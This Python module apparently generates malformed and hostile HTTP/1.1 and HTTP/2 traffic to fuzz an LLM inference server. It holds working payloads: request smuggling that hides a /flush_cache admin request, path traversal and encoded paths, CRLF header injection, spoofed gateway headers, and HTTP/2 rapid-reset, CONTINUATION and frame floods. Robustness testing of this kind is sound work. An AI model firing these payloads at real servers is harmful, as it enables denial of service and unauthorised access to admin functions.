"""Makes the bytes of an attack over one connection, without sockets. `http1` and `http2` make one from a generator."""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Literal

import hpack
from hyperframe import frame as h2

from . import bodies

End = Literal["answer", "close", "reset", "hold"]
"""After the last byte: read the answers, close at once, reset the connection, or keep it open silently."""

_PATHS = (
    "/v1/chat/completions",
    "/v1/completions",
    "/generate",
    "/tokenize",
    "/detokenize",
    "/v1/models",
    "/v1/models/tiny",
    "/health",
    "/ready",
    "/metrics",
    "/flush_cache",
    "/abort_request",
    "/server_info",
    "/v1/loads",
    "/debug/radix",
    "/update_weights_from_disk",
    "//v1//chat/completions",
    "/v1/../flush_cache",
    "/v1/chat/completions/../../../flush_cache",
    "/%66lush_cache",
    "/v1%2fmodels",
    "/.%2e/metrics",
    "/v1/models;x=y",
    "/v1/models?a=%00",
    "/v1/chat/completions#",
    "/V1/MODELS",
    "http://other/v1/models",
    "*",
    "x",
    "/\x7f",
)
_METHODS = (
    "GET",
    "POST",
    "POST",
    "POST",
    "POST",
    "PUT",
    "HEAD",
    "OPTIONS",
    "CONNECT",
    "TRACE",
    "DELETE",
    "PATCH",
    "get",
    "P\x7fST",
)
_HEADERS = (
    b"x-gateway-destination-endpoint: 127.0.0.1:1",
    b"x-gateway-destination-endpoint-subset: 10.0.0.1:1",
    b"x-treeline-edge: 1",
    b"x-treeline-client: somebody",
    b"x-treeline-overloaded: 1",
    b"x-envoy-original-path: /flush_cache",
    b"x-envoy-upstream-rq-timeout-ms: 1",
    b"x-envoy-retry-on: 5xx",
    b"x-forwarded-for: 127.0.0.1, 10.0.0.1",
    b"x-request-id: " + b"a" * 2000,
    b"authorization: Bearer x",
    b"authorization: \xff\xfe",
    b"content-type: text/plain",
    b"content-encoding: gzip",
    b"expect: 100-continue",
    b"expect: x",
    b"connection: upgrade\r\nupgrade: websocket",
    b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABk",
    b"te: trailers",
    b"range: bytes=0-1",
    b"grpc-timeout: 1n",
    b"cookie: " + b"a=b; " * 500,
    b"x: " + b"y" * 70_000,
    b"x : y",
    b" folded",
    b"\0: \0",
    b"host: second",
)


@dataclass(frozen=True)
class Attack:
    """One connection. `name` is the kind; `sends` are written one after another."""

    name: str
    sends: tuple[bytes, ...]
    end: End = "answer"
    http2: bool = False


def _end(rng: random.Random) -> End:
    return rng.choices(("answer", "close", "reset", "hold"), (12, 2, 3, 1))[0]


def _split(rng: random.Random, data: bytes) -> tuple[bytes, ...]:
    """Split the same bytes into up to four writes."""
    cuts = sorted(rng.randrange(len(data) + 1) for _ in range(rng.randrange(4)))
    return tuple(data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)], strict=True) if b > a)


# ---- HTTP/1.1 ----------------------------------------------------------------------------------------------------


def _head(rng: random.Random, *more: bytes, path: str = "/v1/chat/completions", method: str = "POST") -> bytes:
    extra = rng.sample(_HEADERS, rng.choice((0, 0, 0, 1, 2)))
    return b"\r\n".join([f"{method} {path} HTTP/1.1".encode(), b"host: a", *more, *extra, b"", b""])


def _length(body: bytes) -> bytes:
    return b"content-length: %d" % len(body)


def _with_body(rng: random.Random) -> bytes:
    body = bodies.any_body(rng)
    return _head(rng, b"content-type: application/json", _length(body), path=rng.choice(_PATHS[:4])) + body


def _any_path(rng: random.Random) -> bytes:
    body = bodies.good(rng)
    return _head(rng, _length(body), path=rng.choice(_PATHS), method=rng.choice(_METHODS)) + body


def _smuggled(rng: random.Random) -> bytes:
    """Two contradictory ends of a body, with a request to the administration behind it."""
    inner = b"POST /flush_cache HTTP/1.1\r\nhost: a\r\ncontent-length: 0\r\n\r\n"
    lengths = rng.choice(
        (
            (b"content-length: 4", b"transfer-encoding: chunked"),
            (b"transfer-encoding: chunked", b"content-length: 4"),
            (b"content-length: 4", b"content-length: 5"),
            (b"content-length: +4",),
            (b"content-length: 4, 4",),
            (b"content-length: 0x4",),
            (b"content-length: 99999999999999999999",),
            (b"transfer-encoding: xchunked",),
            (b"transfer-encoding: chunked, identity",),
            (b"transfer-encoding:\x0bchunked",),
            (b"transfer-encoding: chunked\r\ntransfer-encoding: identity",),
        )
    )
    return _head(rng, *lengths) + rng.choice((b"0\r\n\r\n", b"4\r\nabcd\r\n0\r\n\r\n", b"{}\r\n")) + inner


def _chunked(rng: random.Random) -> bytes:
    body, made = bodies.any_body(rng)[:200_000], b""
    while body:
        size = rng.randrange(1, 20_000)
        part, body = body[:size], body[size:]
        made += b"%x%s\r\n%s\r\n" % (len(part), rng.choice((b"", b"", b";ext=1", b";" + b"x" * 300)), part)
    last = rng.choice(
        (
            b"0\r\n\r\n",
            b"0\r\n\r\n",
            b"0\r\nx-trailer: 1\r\n\r\n",
            b"fffffffffffffffff\r\n",
            b"-1\r\n",
            b"zz\r\n",
            b"",
        )
    )
    return _head(rng, b"transfer-encoding: chunked") + made + last


def _half(rng: random.Random) -> bytes:
    """Less data than announced."""
    body = bodies.any_body(rng)
    whole = _head(rng, _length(body + b"x" * 1000)) + body
    return whole[: rng.randrange(1, len(whole) + 1)]


def _pipelined(rng: random.Random) -> bytes:
    return b"".join(_with_body(rng) if rng.random() < 0.3 else _any_path(rng) for _ in range(rng.randrange(2, 8)))


def _garbage(rng: random.Random) -> bytes:
    return rng.choice(
        (
            rng.randbytes(2000),
            b"\x16\x03\x01\x02\x00" + rng.randbytes(400),
            b"\r\n" * 500,
            b"GET /\r\n\r\n",
            b"A" * 70_000,
        )
    )


_HTTP1 = (_with_body, _with_body, _with_body, _any_path, _smuggled, _chunked, _half, _pipelined, _garbage)


def http1(rng: random.Random) -> Attack:
    """One connection of HTTP/1.1, or of bytes like it."""
    make = rng.choice(_HTTP1)
    data = make(rng)
    end: End = rng.choice(("close", "reset", "hold")) if make is _half else _end(rng)
    return Attack(f"http1{make.__name__}", _split(rng, data), end)


# ---- HTTP/2 ----------------------------------------------------------------------------------------------------

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class _Writer:
    """Frames of one connection, in order, valid or not."""

    def __init__(self) -> None:
        self.encoder = hpack.Encoder()
        self.data = _PREFACE + h2.SettingsFrame(0).serialize()

    def add(self, *frames: h2.Frame) -> None:
        self.data += b"".join(frame.serialize() for frame in frames)

    def request(
        self,
        stream: int,
        body: bytes,
        *more: tuple[str, str],
        path: str = "/v1/chat/completions",
        method: str = "POST",
        whole: bool = True,
    ) -> None:
        names = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *more]
        headers = h2.HeadersFrame(stream, data=self.encoder.encode(names))
        headers.flags.add("END_HEADERS")
        parts = [body[i : i + 16_000] for i in range(0, len(body), 16_000)]
        frames = [h2.DataFrame(stream, data=part) for part in parts]
        if whole:
            (frames[-1] if frames else headers).flags.add("END_STREAM")
        self.add(headers, *frames)


def _h2_requests(rng: random.Random, out: _Writer) -> None:
    for stream in range(1, 2 * rng.randrange(2, 12), 2):
        out.request(stream, bodies.any_body(rng)[:60_000], ("content-type", "application/json"))


def _h2_reset(rng: random.Random, out: _Writer) -> None:
    """Rapid reset: streams are opened and cancelled without waiting."""
    for stream in range(1, 600, 2):
        out.request(stream, bodies.good(rng), whole=rng.random() < 0.5)
        out.add(h2.RstStreamFrame(stream, error_code=rng.choice((0, 2, 8))))


def _h2_headers(rng: random.Random, out: _Writer) -> None:
    """Forbidden pseudo-headers and names; large and endless header blocks."""
    odd = rng.choice(
        (
            [
                (":method", "POST"),
                (":path", "/v1/models"),
                (":path", "/flush_cache"),
                (":scheme", "http"),
                (":authority", "a"),
            ],
            [(":method", "CONNECT"), (":authority", "127.0.0.1:80")],
            [
                (":method", "GET"),
                (":path", "/v1/models"),
                (":scheme", "http"),
                (":authority", "a"),
                ("Upper", "x"),
            ],
            [
                (":method", "GET"),
                (":path", "/v1/models"),
                (":scheme", "http"),
                (":authority", "a"),
                ("connection", "close"),
            ],
            [(":method", "GET"), (":path", "/v1/models\r\nx: y"), (":scheme", "http"), (":authority", "a")],
            [(":method", "GET"), (":path", ""), (":scheme", "http"), (":authority", "a")],
            [
                (":method", "GET"),
                (":path", "/v1/models"),
                (":scheme", "http"),
                (":authority", "a"),
                ("content-length", "9"),
            ],
            [
                (":method", "GET"),
                (":path", "/v1/models"),
                (":scheme", "http"),
                (":authority", "a"),
                *[("x", "y" * 4000)] * 30,
            ],
        )
    )
    frame = h2.HeadersFrame(1, data=out.encoder.encode(odd))
    frame.flags.add("END_STREAM")
    if rng.random() < 0.5:
        frame.flags.add("END_HEADERS")
        out.add(frame)
    else:
        out.add(frame, *(h2.ContinuationFrame(1, data=b"\x00\x01x\x01y") for _ in range(2000)))


def _h2_flood(rng: random.Random, out: _Writer) -> None:
    """Thousands of control frames."""
    make = rng.choice(
        (
            lambda: h2.PingFrame(0, opaque_data=b"12345678"),
            lambda: h2.SettingsFrame(0, settings={4: rng.randrange(2**31)}),
            lambda: h2.PriorityFrame(rng.randrange(1, 999, 2), depends_on=0, stream_weight=1),
            lambda: h2.WindowUpdateFrame(0, window_increment=rng.choice((1, 2**31 - 1))),
            lambda: h2.DataFrame(rng.randrange(1, 99, 2), data=b""),
        )
    )
    out.request(1, bodies.good(rng))
    out.add(*(make() for _ in range(5000)))


def _h2_slow_window(rng: random.Random, out: _Writer) -> None:
    """Asks for answers and never opens the window for them."""
    out.add(h2.SettingsFrame(0, settings={4: 0}))
    for stream in range(1, 40, 2):
        out.request(stream, bodies.good(rng))


def _h2_paths(rng: random.Random, out: _Writer) -> None:
    for stream in range(1, 30, 2):
        out.request(stream, bodies.good(rng), path=rng.choice(_PATHS), method=rng.choice(_METHODS[:12]))


def _h2_garbage(rng: random.Random, out: _Writer) -> None:
    out.request(1, bodies.good(rng))
    data = bytearray(out.data)
    for _ in range(rng.randrange(1, 30)):
        data[rng.randrange(len(_PREFACE), len(data))] = rng.randrange(256)
    out.data = bytes(data) + rng.randbytes(rng.randrange(200))


_HTTP2 = (
    _h2_requests,
    _h2_requests,
    _h2_reset,
    _h2_headers,
    _h2_flood,
    _h2_slow_window,
    _h2_paths,
    _h2_garbage,
)


def http2(rng: random.Random) -> Attack:
    """One connection of HTTP/2 with prior knowledge."""
    make = rng.choice(_HTTP2)
    out = _Writer()
    make(rng, out)
    end: End = "hold" if make is _h2_slow_window and rng.random() < 0.5 else _end(rng)
    return Attack(make.__name__.removeprefix("_"), _split(rng, out.data), end, http2=True)


def attack(rng: random.Random) -> Attack:
    """Return the next attack."""
    return rng.choice((http1, http1, http2))(rng)
